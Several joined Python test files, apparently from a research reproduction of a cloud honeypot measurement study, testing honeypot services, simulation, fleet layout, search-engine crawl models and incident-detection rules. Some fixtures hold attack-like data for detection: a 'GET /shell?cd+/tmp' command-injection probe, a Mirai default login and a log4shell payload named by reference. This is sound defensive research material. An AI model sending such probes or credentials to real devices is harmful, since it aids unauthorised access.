    def test_silent_connection(self):
        async def scenario():
            pot = LiveHoneypot(services={0: FirstPayloadService()})
            pot.services[0].read_timeout = 0.2
            async with pot:
                reader, writer = await asyncio.open_connection("127.0.0.1", pot.bound_ports[0])
                await asyncio.sleep(0.3)
                writer.close()
                await writer.wait_closed()
                await pot.stop()
                return pot.events

        events = run(scenario())
        assert len(events) == 1
        assert events[0].payload == b""


class TestReplayIntents:
    def test_replay_many(self):
        async def scenario():
            # keys 0/-1 request ephemeral ports; port_map translates below
            pot = LiveHoneypot(services={0: HttpService(), -1: TelnetService()})
            async with pot:
                port_map = {80: pot.bound_ports[0], 23: pot.bound_ports[-1]}
                rng = np.random.default_rng(0)
                http_plan = PortPlan(80, "http", 1.0,
                                     http_payloads=("root-get",), http_weights=(1.0,))
                telnet_plan = PortPlan(23, "telnet", 1.0,
                                       credential_dialect="mirai",
                                       credential_attempts=(2, 2))
                intents = [
                    http_plan.build_intent(rng, 0.1, 100 + i, 200) for i in range(4)
                ] + [
                    telnet_plan.build_intent(rng, 0.2, 300 + i, 200) for i in range(2)
                ]
                count = await replay_intents(intents, port_map)
                await pot.stop()
                return count, pot.events

        count, events = run(scenario())
        assert count == 6
        assert len(events) == 6
        telnet_events = [event for event in events if event.credentials]
        assert len(telnet_events) == 2


class TestLifecycle:
    def test_double_start_rejected(self):
        async def scenario():
            pot = LiveHoneypot(services={0: HttpService()})
            await pot.start()
            with pytest.raises(RuntimeError):
                await pot.start()
            await pot.stop()

        run(scenario())

    def test_multiple_services_distinct_ports(self):
        async def scenario():
            pot = LiveHoneypot(services={0: HttpService(), -1: TelnetService()})
            async with pot:
                return dict(pot.bound_ports)

        ports = run(scenario())
        assert len(set(ports.values())) == 2


class TestLiveAnalysisIntegration:
    def test_live_capture_feeds_analysis_pipeline(self):
        """Live-captured events run through the same AnalysisDataset the
        simulator feeds — fingerprints, maliciousness, counters."""
        from repro.analysis.dataset import AnalysisDataset
        from repro.honeypots.live import live_vantage
        from repro.sim.clock import WEEK_2021

        async def scenario():
            pot = LiveHoneypot(services={0: HttpService(), -1: TelnetService()})
            async with pot:
                client = ReplayClient()
                await client.send_payload(
                    pot.bound_ports[0], http_payload("log4shell").render("127.0.0.1")
                )
                await client.send_payload(
                    pot.bound_ports[0], http_payload("root-get").render("127.0.0.1")
                )
                await client.login_session(
                    pot.bound_ports[-1], [Credential("root", "xc3511")]
                )
                await pot.stop()
            return pot

        pot = run(scenario())
        dataset = AnalysisDataset(pot.events, [live_vantage(pot)], WEEK_2021)
        malicious, total = dataset.malicious_fraction(dataset.events)
        assert total == 3
        assert malicious == 2  # exploit + login attempt; benign GET passes
        protocols = {dataset.fingerprint_of(event) for event in dataset.events}
        assert "http" in protocols
