"""Tests for deterministic RNG streams and the observation window."""

import numpy as np
import pytest
from hypothesis import given, settings, strategies as st

from repro.sim.clock import ObservationWindow, WEEK_2020, WEEK_2021, WEEK_2022
from repro.sim.rng import RngHub, stable_hash64


class TestStableHash:
    def test_deterministic(self):
        assert stable_hash64("a", 1) == stable_hash64("a", 1)

    def test_distinct_inputs_distinct_outputs(self):
        values = {stable_hash64("scanner", index) for index in range(1000)}
        assert len(values) == 1000

    def test_order_sensitive(self):
        assert stable_hash64("a", "b") != stable_hash64("b", "a")

    def test_64_bit_range(self):
        value = stable_hash64("anything")
        assert 0 <= value < (1 << 64)


class TestRngHub:
    def test_same_tag_same_stream(self):
        a = RngHub(7).fork("scanner", 1).integers(0, 1 << 30, 10)
        b = RngHub(7).fork("scanner", 1).integers(0, 1 << 30, 10)
        assert (a == b).all()

    def test_different_tags_different_streams(self):
        hub = RngHub(7)
        a = hub.fork("scanner", 1).integers(0, 1 << 30, 10)
        b = hub.fork("scanner", 2).integers(0, 1 << 30, 10)
        assert not (a == b).all()

    def test_different_seeds_different_streams(self):
        a = RngHub(7).fork("x").integers(0, 1 << 30, 10)
        b = RngHub(8).fork("x").integers(0, 1 << 30, 10)
        assert not (a == b).all()

    def test_negative_seed_rejected(self):
        with pytest.raises(ValueError):
            RngHub(-1)

    def test_subhub_streams_disjoint(self):
        hub = RngHub(7)
        child = hub.subhub("region")
        a = hub.fork("x").integers(0, 1 << 30, 10)
        b = child.fork("x").integers(0, 1 << 30, 10)
        assert not (a == b).all()


class TestCoverageMask:
    def test_extremes(self):
        hub = RngHub(7)
        values = np.arange(100, dtype=np.uint64)
        assert hub.coverage_mask("t", values, 1.0).all()
        assert not hub.coverage_mask("t", values, 0.0).any()

    def test_stable_per_pair(self):
        hub = RngHub(7)
        values = np.arange(1000, dtype=np.uint64)
        first = hub.coverage_mask("tag", values, 0.4)
        second = hub.coverage_mask("tag", values, 0.4)
        assert (first == second).all()

    def test_subset_independent_of_context(self):
        """Coverage of an IP must not depend on which other IPs are queried."""
        hub = RngHub(7)
        full = hub.coverage_mask("tag", np.arange(1000, dtype=np.uint64), 0.4)
        half = hub.coverage_mask("tag", np.arange(500, dtype=np.uint64), 0.4)
        assert (full[:500] == half).all()

    def test_fraction_respected_approximately(self):
        hub = RngHub(7)
        values = np.arange(20_000, dtype=np.uint64)
        mask = hub.coverage_mask("tag", values, 0.3)
        assert 0.25 < mask.mean() < 0.35

    def test_invalid_fraction(self):
        with pytest.raises(ValueError):
            RngHub(7).coverage_mask("t", np.arange(4), 1.5)

    @given(st.integers(min_value=0, max_value=1 << 30), st.floats(min_value=0.05, max_value=0.95))
    @settings(max_examples=25)
    def test_different_tags_decorrelate(self, seed, fraction):
        hub = RngHub(seed)
        values = np.arange(2000, dtype=np.uint64)
        a = hub.coverage_mask("a", values, fraction)
        b = hub.coverage_mask("b", values, fraction)
        # Independent masks should agree on roughly f^2 + (1-f)^2 of values.
        expected = fraction**2 + (1 - fraction) ** 2
        assert abs((a == b).mean() - expected) < 0.12


class TestObservationWindow:
    def test_hours(self):
        assert WEEK_2021.hours == 168
        assert ObservationWindow(2021, days=1).hours == 24

    def test_contains(self):
        assert WEEK_2021.contains(0.0)
        assert WEEK_2021.contains(167.99)
        assert not WEEK_2021.contains(168.0)
        assert not WEEK_2021.contains(-0.1)

    def test_hour_edges(self):
        edges = ObservationWindow(2021, days=1).hour_edges()
        assert edges.shape == (25,)
        assert edges[0] == 0 and edges[-1] == 24

    def test_invalid_days(self):
        with pytest.raises(ValueError):
            ObservationWindow(2021, days=0)

    def test_labels(self):
        assert "2020" in str(WEEK_2020)
        assert "2022" in str(WEEK_2022)
