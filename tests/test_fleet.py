"""Tests for the Table 1 deployment geometry."""

import numpy as np
import pytest

from repro.deployment.fleet import (
    GREYNOISE_REGIONS,
    build_full_deployment,
    build_greynoise_fleet,
    build_honeytrap_fleet,
    build_leak_experiment,
    build_telescope,
)
from repro.honeypots.cowrie import COWRIE_PORTS
from repro.net.addresses import vector_has_255_octet, vector_is_first_of_slash16
from repro.sim.events import NetworkKind
from repro.sim.rng import RngHub

HUB = RngHub(99)


class TestGreyNoiseFleet:
    def test_region_counts_match_table1(self):
        assert len(GREYNOISE_REGIONS["aws"]) == 16
        assert len(GREYNOISE_REGIONS["azure"]) == 3
        assert len(GREYNOISE_REGIONS["google"]) == 21
        assert len(GREYNOISE_REGIONS["linode"]) == 7

    def test_four_honeypots_per_region(self):
        fleet = build_greynoise_fleet(HUB)
        aws_sg = [v for v in fleet if v.network == "aws" and v.region_code == "AP-SG"]
        assert len(aws_sg) == 4

    def test_cowrie_everywhere_http_on_two(self):
        """All 4 region honeypots expose SSH/Telnet; only 2 expose HTTP."""
        fleet = build_greynoise_fleet(HUB)
        aws_sg = [v for v in fleet if v.network == "aws" and v.region_code == "AP-SG"]
        assert sum(1 for v in aws_sg if v.stack.observes(22)) == 4
        assert sum(1 for v in aws_sg if v.stack.observes(80)) == 2

    def test_hurricane_is_a_full_slash24(self):
        fleet = build_greynoise_fleet(HUB)
        hurricane = [v for v in fleet if v.network == "hurricane"]
        assert len(hurricane) == 256
        ips = sorted(int(v.ips[0]) for v in hurricane)
        assert ips == list(range(ips[0], ips[0] + 256))

    def test_total_cloud_vantage_count(self):
        """~440 cloud vantage points, as in the paper."""
        fleet = build_greynoise_fleet(HUB)
        assert 420 <= len(fleet) <= 460

    def test_all_cloud_kind(self):
        assert all(v.kind is NetworkKind.CLOUD for v in build_greynoise_fleet(HUB))


class TestHoneytrapFleet:
    def test_site_sizes(self):
        fleet = build_honeytrap_fleet(HUB)
        by_site = {}
        for v in fleet:
            by_site.setdefault(v.vantage_id.rsplit("-", 1)[0], []).append(v)
        assert len(by_site["ht-stanford"]) == 64
        assert len(by_site["ht-merit"]) == 64
        assert len(by_site["ht-aws-west"]) == 64
        assert len(by_site["ht-google-west"]) == 64
        assert len(by_site["ht-google-east"]) == 2

    def test_edu_and_cloud_kinds(self):
        fleet = build_honeytrap_fleet(HUB)
        kinds = {v.network: v.kind for v in fleet}
        assert kinds["stanford"] is NetworkKind.EDU
        assert kinds["merit"] is NetworkKind.EDU
        assert kinds["aws"] is NetworkKind.CLOUD


class TestTelescope:
    def test_default_size(self):
        telescope = build_telescope()
        assert telescope.num_ips == 16 * 256
        assert telescope.kind is NetworkKind.TELESCOPE

    def test_bounds(self):
        with pytest.raises(ValueError):
            build_telescope(0)
        with pytest.raises(ValueError):
            build_telescope(2000)

    def test_structural_variety_preserved(self):
        """Even a scaled telescope contains first-of-/16 and any-255 IPs."""
        telescope = build_telescope(16)
        assert vector_is_first_of_slash16(telescope.ips).any()
        assert vector_has_255_octet(telescope.ips).any()

    def test_large_telescope(self):
        telescope = build_telescope(128)
        assert telescope.num_ips == 128 * 256
        assert len(np.unique(telescope.ips)) == telescope.num_ips

    def test_address_adjacent_to_merit(self):
        """Telescope lives in 198.x space near Merit (same-AS hypothesis)."""
        telescope = build_telescope(8)
        assert all((int(ip) >> 24) == 198 for ip in telescope.ips[:10])


class TestLeakExperiment:
    def test_group_layout(self):
        _vantages, experiment = build_leak_experiment(HUB)
        assert len(experiment.control_ips) == 8
        assert len(experiment.previously_leaked_ips) == 7
        assert len(experiment.leak_groups) == 6
        assert all(len(group.ips) == 3 for group in experiment.leak_groups)
        assert len(experiment.all_ips) == 33

    def test_groups_cover_engines_and_services(self):
        _vantages, experiment = build_leak_experiment(HUB)
        combos = {(g.engine, g.protocol, g.port) for g in experiment.leak_groups}
        assert combos == {
            ("censys", "ssh", 22), ("censys", "telnet", 23), ("censys", "http", 80),
            ("shodan", "ssh", 22), ("shodan", "telnet", 23), ("shodan", "http", 80),
        }

    def test_group_for_lookup(self):
        _vantages, experiment = build_leak_experiment(HUB)
        group = experiment.leak_groups[0]
        assert experiment.group_for(group.ips[0]) is group
        assert experiment.group_for(experiment.control_ips[0]) is None

    def test_vantages_interactive(self):
        vantages, _experiment = build_leak_experiment(HUB)
        assert len(vantages) == 33
        assert all(v.network == "stanford" for v in vantages)


class TestFullDeployment:
    def test_no_ip_collisions_anywhere(self):
        deployment = build_full_deployment(HUB, num_telescope_slash24s=8)
        all_ips = np.concatenate(
            [v.ips for v in deployment.honeypots] + [deployment.telescope.ips]
        )
        assert len(np.unique(all_ips)) == len(all_ips)

    def test_deterministic_per_seed(self):
        first = build_full_deployment(RngHub(5), num_telescope_slash24s=4)
        second = build_full_deployment(RngHub(5), num_telescope_slash24s=4)
        for a, b in zip(first.honeypots, second.honeypots):
            assert a.vantage_id == b.vantage_id
            assert (a.ips == b.ips).all()

    def test_helpers(self):
        deployment = build_full_deployment(HUB, num_telescope_slash24s=4)
        assert "aws" in deployment.networks()
        aws_sg = deployment.honeypots_in("aws", "AP-SG")
        assert len(aws_sg) == 4
        assert len(deployment.all_vantages) == len(deployment.honeypots) + 1

    def test_optional_leak_experiment(self):
        deployment = build_full_deployment(
            HUB, num_telescope_slash24s=4, include_leak_experiment=False
        )
        assert deployment.leak_experiment is None
