"""Tests for the Censys/Shodan search-engine models."""

import numpy as np
import pytest

from repro.honeypots.base import VantagePoint
from repro.honeypots.honeytrap import HoneytrapStack
from repro.honeypots.greynoise import GreyNoiseStack
from repro.honeypots.telescope import TelescopeStack
from repro.searchengines.index import IndexEntry, SearchEngine, ServiceIndex
from repro.sim.events import NetworkKind

PROTOCOLS = {22: "ssh", 80: "http", 443: "tls"}


def vantage(stack, ips=(9000, 9001)):
    return VantagePoint(
        vantage_id="v", network="stanford", kind=NetworkKind.EDU,
        region_code="US-WEST", continent="NA",
        ips=np.asarray(ips, dtype=np.uint32), stack=stack,
    )


class TestServiceIndex:
    def test_add_and_lookup(self):
        index = ServiceIndex("censys")
        index.add(IndexEntry(1, 80, "http", 5.0))
        assert (1, 80) in index
        assert index.lookup(1, 80).protocol == "http"
        assert index.lookup(1, 443) is None

    def test_earliest_indexing_wins(self):
        index = ServiceIndex("censys")
        index.add(IndexEntry(1, 80, "http", 5.0))
        index.add(IndexEntry(1, 80, "http", -100.0))
        index.add(IndexEntry(1, 80, "http", 50.0))
        assert index.lookup(1, 80).first_indexed == -100.0

    def test_services_on_port_visibility(self):
        index = ServiceIndex("censys")
        index.add(IndexEntry(1, 80, "http", 5.0))
        index.add(IndexEntry(2, 80, "http", 50.0))
        assert len(index.services_on_port(80)) == 2
        assert [e.ip for e in index.services_on_port(80, visible_at=10.0)] == [1]

    def test_remove(self):
        index = ServiceIndex("censys")
        index.add(IndexEntry(1, 80, "http", 5.0))
        index.remove(1, 80)
        assert len(index) == 0
        index.remove(1, 80)  # idempotent


class TestSearchEngine:
    def test_rejects_unknown_engine(self):
        with pytest.raises(ValueError):
            SearchEngine("bing", crawler_asn=1)

    def test_crawl_indexes_responding_services(self):
        engine = SearchEngine("censys", crawler_asn=398324)
        count = engine.crawl_vantage(vantage(HoneytrapStack()), 0.0, PROTOCOLS)
        assert count == 2 * len(engine.crawl_ports)
        assert (9000, 80) in engine.index

    def test_crawl_skips_telescopes(self):
        engine = SearchEngine("censys", crawler_asn=398324)
        count = engine.crawl_vantage(vantage(TelescopeStack()), 0.0, PROTOCOLS)
        assert count == 0
        assert len(engine.index) == 0

    def test_crawl_respects_port_exposure(self):
        engine = SearchEngine("censys", crawler_asn=398324)
        engine.crawl_vantage(vantage(GreyNoiseStack(frozenset({22}))), 0.0, PROTOCOLS)
        assert (9000, 22) in engine.index
        assert (9000, 80) not in engine.index

    def test_indexing_delay_applied(self):
        engine = SearchEngine("censys", crawler_asn=398324, indexing_delay_hours=6.0)
        engine.crawl_vantage(vantage(HoneytrapStack()), 2.0, PROTOCOLS)
        assert engine.index.lookup(9000, 80).first_indexed == 8.0

    def test_ip_blocking(self):
        engine = SearchEngine("censys", crawler_asn=398324)
        engine.block([9000])
        engine.crawl_vantage(vantage(HoneytrapStack()), 0.0, PROTOCOLS)
        assert (9000, 80) not in engine.index
        assert (9001, 80) in engine.index

    def test_allow_reverses_block(self):
        engine = SearchEngine("censys", crawler_asn=398324)
        engine.block([9000])
        engine.allow([9000])
        engine.crawl_vantage(vantage(HoneytrapStack()), 0.0, PROTOCOLS)
        assert (9000, 80) in engine.index

    def test_service_level_blocking(self):
        """The leak experiment blocks all but one (engine, port) pair."""
        engine = SearchEngine("censys", crawler_asn=398324)
        for port in engine.crawl_ports:
            if port != 22:
                engine.block_service(9000, port)
        engine.crawl_vantage(vantage(HoneytrapStack()), 0.0, PROTOCOLS)
        indexed_ports = {port for (ip, port) in
                         ((e.ip, e.port) for e in engine.index.entries()) if ip == 9000}
        assert indexed_ports == {22}

    def test_seed_historical(self):
        engine = SearchEngine("shodan", crawler_asn=10439)
        engine.seed_historical(9000, 80, "http", hours_before=17520)
        entry = engine.index.lookup(9000, 80)
        assert entry.first_indexed == -17520
