"""Tests for the cloudwatching CLI."""

import asyncio
import threading
import time

import pytest

from repro.cli import EXPERIMENT_YEARS, main
from repro.experiments import ALL_EXPERIMENTS
from repro.io.records import read_events


class TestList:
    def test_lists_every_experiment(self, capsys):
        assert main(["list"]) == 0
        lines = capsys.readouterr().out.splitlines()
        printed = {line.split()[0] for line in lines if line.strip()}
        assert printed == set(ALL_EXPERIMENTS)

    def test_every_line_carries_a_description(self, capsys):
        assert main(["list"]) == 0
        lines = [line for line in capsys.readouterr().out.splitlines() if line.strip()]
        assert all(len(line.split(None, 1)) == 2 for line in lines)


class TestRun:
    def test_unknown_experiment_rejected(self, capsys):
        assert main(["run", "T99"]) == 2
        assert "unknown experiments" in capsys.readouterr().err

    def test_runs_requested_experiments(self, capsys):
        code = main(["run", "T6", "M1", "--scale", "0.1", "--telescope", "4",
                     "--seed", "5"])
        assert code == 0
        out = capsys.readouterr().out
        assert "== T6:" in out and "== M1:" in out
        assert "completed in" in out

    def test_year_mapping_complete(self):
        assert set(EXPERIMENT_YEARS) == {"T12", "T13", "T14", "T15", "T16", "T17"}


class TestSimulate:
    def test_writes_readable_dataset(self, tmp_path, capsys):
        output = tmp_path / "release.ndjson.gz"
        code = main(["simulate", str(output), "--scale", "0.1",
                     "--telescope", "4", "--seed", "5"])
        assert code == 0
        assert "wrote" in capsys.readouterr().out
        events = list(read_events(output))
        assert len(events) > 100


class TestHoneypots:
    def test_rejects_unknown_service(self, capsys):
        assert main(["honeypots", "--port", "9999=gopher", "--duration", "0.1"]) == 2
        assert "unknown service" in capsys.readouterr().err

    def test_serves_and_captures(self, capsys):
        """Start honeypots in a thread, poke one, check the report."""
        results = {}

        def _serve():
            results["code"] = main(["honeypots", "--port", "0=http", "--duration", "1.5"])

        thread = threading.Thread(target=_serve)
        thread.start()
        try:
            time.sleep(0.4)
            out_so_far = capsys.readouterr().out
            # Parse the bound port from the startup line.
            line = next(l for l in out_so_far.splitlines() if "listening on" in l)
            port = int(line.split("127.0.0.1:")[1].split(" ")[0])

            async def _poke():
                reader, writer = await asyncio.open_connection("127.0.0.1", port)
                writer.write(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
                await writer.drain()
                await reader.read(4096)
                writer.close()
                await writer.wait_closed()

            asyncio.run(_poke())
        finally:
            thread.join(timeout=10)
        assert results["code"] == 0
        out = capsys.readouterr().out
        assert "captured 1 sessions" in out
        assert "GET / HTTP/1.1" in out


class TestMarkdownOutput:
    def test_run_writes_markdown_report(self, tmp_path, capsys):
        report = tmp_path / "report.md"
        code = main(["run", "T6", "M1", "--scale", "0.1", "--telescope", "4",
                     "--seed", "5", "--output", str(report)])
        assert code == 0
        text = report.read_text()
        assert text.startswith("# Cloud Watching")
        assert "## T6:" in text and "## M1:" in text
        assert "```text" in text
        assert "markdown report written" in capsys.readouterr().out
