"""Smoke tests for the benchmark harness (repro.bench)."""

from __future__ import annotations

import json

from repro.bench import append_record, artifact_path, run_bench


def test_append_record_creates_and_appends(tmp_path):
    path = tmp_path / "bench.json"
    append_record({"kind": "first"}, str(path))
    append_record({"kind": "second"}, str(path))
    records = json.loads(path.read_text())
    assert [record["kind"] for record in records] == ["first", "second"]


def test_append_record_recovers_from_corrupt_artifact(tmp_path):
    path = tmp_path / "bench.json"
    path.write_text("{not json")
    append_record({"kind": "fresh"}, str(path))
    records = json.loads(path.read_text())
    assert [record["kind"] for record in records] == ["fresh"]


def test_artifact_path_resolution(tmp_path, monkeypatch):
    monkeypatch.delenv("CLOUDWATCHING_BENCH_JSON", raising=False)
    assert artifact_path() == "BENCH_simulation.json"
    monkeypatch.setenv("CLOUDWATCHING_BENCH_JSON", "/tmp/other.json")
    assert artifact_path() == "/tmp/other.json"
    assert artifact_path("explicit.json") == "explicit.json"


def test_run_bench_smoke(tmp_path):
    path = tmp_path / "bench.json"
    record = run_bench(
        scale=0.02,
        telescope_slash24s=2,
        seed=11,
        experiments=["T1"],
        artifact=str(path),
        quiet=True,
    )
    assert record["events"] > 0
    assert set(record["stages"]) == {"deployment", "population", "simulation", "dataset"}
    assert all(value >= 0 for value in record["stages"].values())
    assert "T1" in record["experiments"]
    records = json.loads(path.read_text())
    assert records[-1] == record
