"""repro.incident: rules, lifecycle, audit determinism, enforcement,
and the X5 closed loop.

The determinism headline lives here: the same fixed seed must produce a
byte-identical audit log whether detection runs in-process over the
batch dataset or over a 1-, 2- or 4-shard orchestrated run directory —
that invariance is what makes the incident log an artifact rather than
an accident of execution layout.
"""

from __future__ import annotations

import json

import numpy as np
import pytest

from repro.experiments import ExperimentConfig, get_context
from repro.incident import (
    ActiveBlocklist,
    AuditLog,
    CampaignOnsetRule,
    CredentialLeakRule,
    IncidentStore,
    NewHeavyHitterRule,
    RunbookExecutor,
    Signal,
    VolumeSpikeRule,
    detect_incidents,
)
from repro.incident.pipeline import canonical_chunks
from repro.runner import orchestrate
from repro.serve.backends import RunDirBackend, build_live_pipeline, load_run_dir
from repro.serve.schema import (
    ActionsQuery,
    IncidentsQuery,
    SchemaError,
    validate_blocklist_file,
)

#: Same tiny-but-real fixed-seed config the serve/watch tests pin.
TINY = ExperimentConfig(year=2021, scale=0.05, telescope_slash24s=4, seed=5)


@pytest.fixture(scope="module")
def tiny():
    return get_context(TINY)


@pytest.fixture(scope="module")
def tiny_pipeline(tiny):
    """One in-process detection pass shared by the module."""
    return detect_incidents(tiny.dataset)


@pytest.fixture(scope="module")
def run_dir(tmp_path_factory):
    """A 2-shard orchestrated run of the same seed."""
    out = tmp_path_factory.mktemp("incident") / "run"
    run = orchestrate(TINY, workers=1, out_dir=out, num_shards=2, quiet=True)
    assert not run.partial
    return out


def _signal(key="spike:v1", hour=3, rule="volume-spike", offenders=()):
    return Signal(
        rule=rule, key=key, hour=hour, severity="warning",
        summary=f"{key} at {hour}", offenders=tuple(offenders),
    )


# ---------------------------------------------------------------------------
# store lifecycle + audit log
# ---------------------------------------------------------------------------


class TestIncidentStore:
    def test_signals_sharing_a_key_fold_into_one_incident(self):
        store = IncidentStore()
        opened = store.ingest([_signal(hour=3)], hour=3)
        assert [i.incident_id for i in opened] == ["INC-0001"]
        assert store.ingest([_signal(hour=4)], hour=4) == []
        incident = store.history[0]
        assert incident.signals == 2
        assert (incident.opened_hour, incident.last_hour) == (3, 4)
        assert len(store.history) == 1

    def test_lifecycle_walks_open_acknowledged_resolved(self):
        store = IncidentStore(quiet_hours=2)
        (incident,) = store.ingest([_signal(hour=3)], hour=3)
        assert incident.status == "open" and incident.active
        store.acknowledge(incident, hour=3, runbook="reweight")
        assert incident.status == "acknowledged" and incident.active
        assert store.resolve_quiet(hour=4) == 0  # only 1 quiet hour
        assert store.resolve_quiet(hour=5) == 1
        assert incident.status == "resolved" and not incident.active
        assert incident.resolved_hour == 5
        events = [r["event"] for r in store.audit.records]
        assert events == ["open", "acknowledge", "resolve"]
        assert store.counts() == {"open": 0, "acknowledged": 0, "resolved": 1}

    def test_resolved_key_can_reopen_as_a_new_incident(self):
        store = IncidentStore(quiet_hours=1)
        (first,) = store.ingest([_signal(hour=0)], hour=0)
        store.resolve_quiet(hour=1)
        (second,) = store.ingest([_signal(hour=5)], hour=5)
        assert first.incident_id != second.incident_id
        assert second.status == "open"

    def test_resolve_all_closes_everything_at_end_of_stream(self):
        store = IncidentStore()
        store.ingest([_signal(key="a"), _signal(key="b")], hour=0)
        assert store.resolve_all(hour=167) == 2
        assert all(i.status == "resolved" for i in store.history)
        reasons = {r["reason"] for r in store.audit.records
                   if r["event"] == "resolve"}
        assert reasons == {"end-of-stream"}

    def test_audit_ndjson_is_canonical_and_digest_stable(self):
        log = AuditLog()
        log.append({"b": 1, "a": 2, "record": "incident"})
        line = log.to_ndjson()
        assert line == '{"a":2,"b":1,"record":"incident"}\n'
        assert json.loads(line) == {"a": 2, "b": 1, "record": "incident"}
        assert log.digest() == log.digest()

    def test_by_status_filters(self):
        store = IncidentStore()
        store.ingest([_signal(key="a"), _signal(key="b")], hour=0)
        store.resolve(store.history[0], hour=1, reason="manual")
        assert [i.key for i in store.by_status("resolved")] == ["a"]
        assert [i.key for i in store.by_status("open")] == ["b"]
        assert len(store.by_status()) == 2


# ---------------------------------------------------------------------------
# runbooks
# ---------------------------------------------------------------------------


class TestRunbooks:
    def _executor(self, **kwargs):
        audit = AuditLog()
        store = IncidentStore(audit)
        return RunbookExecutor(audit, store, **kwargs), store

    def test_block_emits_entry_active_next_hour_and_dedups(self):
        executor, store = self._executor()
        (first,) = store.ingest(
            [_signal(key="h:1", offenders=(("asn", 64500),))], hour=7)
        assert executor.execute(first, "block", 7) == 1
        (second,) = store.ingest(
            [_signal(key="h:2", offenders=(("asn", 64500),))], hour=9)
        assert executor.execute(second, "block", 9) == 0  # already blocked
        (entry,) = executor.blocklist
        assert (entry.asn, entry.active_from) == (64500, 8.0)
        assert entry.incident_id == first.incident_id
        assert first.status == "acknowledged"
        (action,) = executor.audit.actions("block")
        assert action["incident"] == first.incident_id

    def test_rotate_increments_fingerprint_generation(self):
        executor, store = self._executor()
        for hour in (24, 48):
            (incident,) = store.ingest(
                [_signal(key=f"l:{hour}",
                         offenders=(("service", "TELNET/23"),))], hour=hour)
            executor.execute(incident, "rotate", hour)
        generations = [r["fingerprint_generation"] for r in executor.rotations]
        assert generations == [1, 2]

    def test_reweight_halves_and_floors_region_weight(self):
        executor, store = self._executor(region_of={"v1": "EU"}.get)
        for hour in range(4):
            (incident,) = store.ingest(
                [_signal(key=f"s:{hour}",
                         offenders=(("vantage", "v1"),))], hour=hour)
            executor.execute(incident, "reweight", hour)
        # 1.0 -> 0.5 -> 0.25, then floored: no further action emitted.
        assert executor.region_weights == {"EU": 0.25}
        assert len(executor.audit.actions("reweight")) == 2

    def test_unknown_runbook_is_a_no_op(self):
        executor, store = self._executor()
        (incident,) = store.ingest([_signal()], hour=0)
        assert executor.execute(incident, None, 0) == 0
        assert incident.status == "open"


# ---------------------------------------------------------------------------
# rule fixtures (positive and negative), against minimal stub state
# ---------------------------------------------------------------------------


class _StubWindows:
    def __init__(self, series):
        self._series = {k: np.asarray(v, dtype=np.float64)
                        for k, v in series.items()}

    def keys(self):
        return sorted(self._series)

    def series(self, vantage_id):
        return self._series[vantage_id]


class _StubSketch:
    def __init__(self, counts):
        self._counts = counts

    def top(self, k):
        ranked = sorted(self._counts, key=lambda a: (-self._counts[a], a))
        return ranked[:k]

    def estimate(self, asn):
        return float(self._counts.get(asn, 0))


class _StubContingency:
    def __init__(self, per_vantage):
        self._per = per_vantage

    def groups(self):
        return sorted(self._per)

    def sketch(self, vantage_id):
        return _StubSketch(self._per[vantage_id])


class _StubAnalyzer:
    def __init__(self, series=None, as_counts=None, totals=None, leak=None):
        self.windows = _StubWindows(series or {})
        self.contingency = (
            {"as": _StubContingency(as_counts)} if as_counts else {}
        )
        self.events_per_vantage = dict(totals or {})
        self.leak = leak

    def top(self, characteristic, vantage_id, k):
        return []


class _StubChunk:
    """Whole-table chunk shape (bytes payload, the non-ndarray path)."""

    def __init__(self, vantage_id, payload, asns, stamps):
        self.vantage_id = vantage_id
        self._payload = payload
        self._asns = np.asarray(asns, dtype=np.int64)
        self._stamps = np.asarray(stamps, dtype=np.float64)

    def raw(self, name):
        return self._payload

    def resolved(self, name):
        return self._asns if name == "src_asn" else self._stamps

    def __len__(self):
        return len(self._asns)


class TestVolumeSpikeRule:
    def test_spike_over_trailing_baseline_fires(self):
        rule = VolumeSpikeRule(min_history=6, min_events=32.0)
        series = [10.0] * 10 + [120.0]
        analyzer = _StubAnalyzer(series={"v1": series})
        (signal,) = rule.evaluate(analyzer, hour=10)
        assert signal.key == "spike:v1"
        assert signal.offenders == (("vantage", "v1"),)
        assert signal.details["value"] == 120.0

    def test_quiet_small_and_warming_up_hours_stay_silent(self):
        rule = VolumeSpikeRule(min_history=6, min_events=32.0)
        flat = _StubAnalyzer(series={"v1": [10.0] * 11})
        assert rule.evaluate(flat, hour=10) == []
        small_spike = _StubAnalyzer(series={"v1": [1.0] * 10 + [20.0]})
        assert rule.evaluate(small_spike, hour=10) == []  # < min_events
        early = _StubAnalyzer(series={"v1": [0.0, 0.0, 120.0]})
        assert rule.evaluate(early, hour=2) == []  # < min_history


class TestNewHeavyHitterRule:
    def test_new_entrant_after_warmup_fires_once(self):
        rule = NewHeavyHitterRule(k=3, warmup_hours=6,
                                  min_vantage_events=100, min_share=0.15)
        warm = _StubAnalyzer(as_counts={"v1": {111: 90, 222: 10}},
                             totals={"v1": 100})
        assert rule.evaluate(warm, hour=2) == []  # warmup: recorded, silent
        hot = _StubAnalyzer(as_counts={"v1": {111: 90, 222: 10, 333: 60}},
                            totals={"v1": 160})
        (signal,) = rule.evaluate(hot, hour=7)
        assert signal.key == "heavy:v1:333"
        assert ("asn", 333) in signal.offenders
        assert rule.evaluate(hot, hour=8) == []  # already known

    def test_sparse_vantage_and_thin_share_stay_silent(self):
        rule = NewHeavyHitterRule(k=3, warmup_hours=0,
                                  min_vantage_events=100, min_share=0.15)
        sparse = _StubAnalyzer(as_counts={"v1": {333: 50}}, totals={"v1": 50})
        assert rule.evaluate(sparse, hour=7) == []
        thin = _StubAnalyzer(as_counts={"v1": {111: 990, 333: 10}},
                             totals={"v1": 1000})
        # AS111 (99%) is a real heavy hitter; AS333 (1%) is below
        # min_share and must not ride along.
        keys = {signal.key for signal in rule.evaluate(thin, hour=7)}
        assert keys == {"heavy:v1:111"}


class TestCampaignOnsetRule:
    PAYLOAD = b"GET /shell?cd+/tmp HTTP/1.1\r\nHost: x\r\n\r\n"

    def _observe(self, rule, vantage_id, stamp, count=10):
        rule.observe(_StubChunk(
            vantage_id, self.PAYLOAD,
            asns=[64500] * count,
            stamps=[stamp] * count,
        ))

    def test_multi_vantage_fingerprint_fires_once(self):
        rule = CampaignOnsetRule(min_vantages=3, min_events=24, warmup_hours=6)
        for vantage_id in ("v1", "v2"):
            self._observe(rule, vantage_id, stamp=10.0)
        assert rule.evaluate(_StubAnalyzer(), hour=10) == []  # 2 < 3 vantages
        self._observe(rule, "v3", stamp=11.0)
        (signal,) = rule.evaluate(_StubAnalyzer(), hour=11)
        assert signal.key.startswith("campaign:")
